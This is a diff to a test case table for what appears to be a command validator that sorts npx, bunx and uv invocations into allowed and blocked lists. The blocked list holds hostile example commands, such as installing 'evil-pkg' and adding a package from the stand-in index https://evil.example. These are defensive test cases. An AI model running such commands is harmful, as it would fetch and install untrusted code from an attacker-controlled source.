@@ -28,6 +28,9 @@ export const cases: CaseTable = {
     "npx -ptypescript tsc --noEmit",
     "npx --call='tsc --noEmit'",
     "bunx --bun vitest run",
+    "uv tool run ruff check",
+    "uv --directory sub run pytest",
+    "uv run --with pytest pytest -x",
   ],
   block: [
     "npx prettier --write ../../main/src",
@@ -61,5 +64,6 @@ export const cases: CaseTable = {
     "npx -p evil-pkg tsc --noEmit",
     "npx --package=evil-pkg tsc",
     "bun x --frob vitest",
+    "uv add run requests --index-url https://evil.example",
   ],
 };
